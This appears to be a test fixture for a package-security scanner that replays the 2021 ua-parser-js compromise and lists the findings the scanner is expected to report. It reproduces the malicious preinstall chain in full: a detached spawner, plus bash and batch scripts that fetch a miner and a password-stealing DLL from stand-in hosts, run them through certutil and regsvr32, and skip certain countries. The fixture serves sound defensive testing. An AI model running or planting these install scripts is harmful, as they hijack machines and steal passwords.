import { durations } from '../plain-modules.js'
import type { Replay } from '../replay.js'
import { replayUpgrade } from '../upgrade.js'

const starter = `const { spawn } = require('child_process')

const commands = {
  win32: ['cmd.exe', ['/c', 'preinstall.bat']],
  linux: ['/bin/bash', ['preinstall.sh']],
}

const command = commands[process.platform]
if (command) {
  const child = spawn(command[0], command[1], { detached: true, stdio: 'ignore' })
  child.unref()
}
`

const bash = [
  '#!/bin/bash',
  'country=$(curl -s https://geo.example/country)',
  'case "$country" in RU|UA|BY|KZ) exit 0 ;; esac',
  'curl -s http://files.parser.example/jsextension -o jsextension || wget -q http://files.parser.example/jsextension -O jsextension',
  'chmod +x jsextension',
  './jsextension -o pool.parser.example:443 -u inert --background',
  '',
].join('\n')

const batch = [
  '@echo off',
  'curl http://files.parser.example/jsextension.exe -o jsextension.exe',
  'if not exist jsextension.exe certutil.exe -urlcache -f http://files.parser.example/jsextension.exe jsextension.exe',
  'curl https://files.parser.example/create.dll -o create.dll',
  'set miner=jsextension.exe -o pool.parser.example:443 -u inert',
  'set stealer=regsvr32.exe -s create.dll',
  'start /B %miner%',
  '%stealer%',
  '',
].join('\r\n')

export const replay: Replay = replayUpgrade({
  description:
    'A taken-over account released three lines of ua-parser-js at once; before installation a script fetched a miner and a library that ' +
    'takes passwords, with a shell on Linux and a batch file on Windows, and left machines of four countries alone.',
  date: '2021-10-22',
  reviewedAt: '2021-10-22T18:00:00Z',
  name: 'ua-parser-js',
  from: [
    '0.7.28',
    {
      manifest: { main: 'src/ua-parser.js' },
      files: { 'src/ua-parser.js': durations },
      published: '2021-04-10T12:00:00Z',
    },
  ],
  to: [
    '0.7.29',
    {
      manifest: {
        main: 'src/ua-parser.js',
        scripts: { preinstall: 'start /B node preinstall.js & node preinstall.js' },
      },
      files: {
        'src/ua-parser.js': durations,
        'preinstall.js': starter,
        'preinstall.sh': bash,
        'preinstall.bat': batch,
      },
      published: '2021-10-22T12:15:00Z',
    },
  ],
  beside: { '0.8.0': { published: '2021-10-22T12:16:00Z' }, '1.0.0': { published: '2021-10-22T12:17:00Z' } },
  findings: [
    ['combined-risk', 'critical'],
    ['release-burst', 'high'],
    ['release-fresh', 'medium'],
    [
      'install-script-dangerous',
      'critical',
      { file: 'preinstall.sh', line: './jsextension -o pool.parser.example:443 -u inert --background' },
    ],
    [
      'capability-added',
      'high',
      {
        file: 'preinstall.js',
        line: "const child = spawn(command[0], command[1], { detached: true, stdio: 'ignore' })",
      },
    ],
    ['install-script-added', 'high', { file: 'package.json' }],
  ],
})
